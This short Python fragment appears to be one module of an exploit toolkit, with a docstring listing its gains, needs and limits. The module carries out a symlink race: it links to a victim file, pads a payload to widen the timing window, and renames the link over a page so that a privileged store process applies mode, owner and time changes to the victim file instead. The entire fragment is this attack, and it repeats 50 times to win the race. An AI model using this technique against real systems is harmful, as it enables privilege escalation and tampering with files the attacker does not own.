"""Renames a link to a file outside over the page: what the store sets on the page is set on that file.

gains: the mode, owner and time of a file of the portal
needs: chain
limits: timeout_s=6
repeat: 50
ends: any
"""

os.symlink(V["victim"], "link")
forge(b"x" * 40_000_000)
chain(60 + 8 * ROUND, "/bin/mv", "-T", "link", "../result.html")
tell(b"done")
time.sleep(0.3)
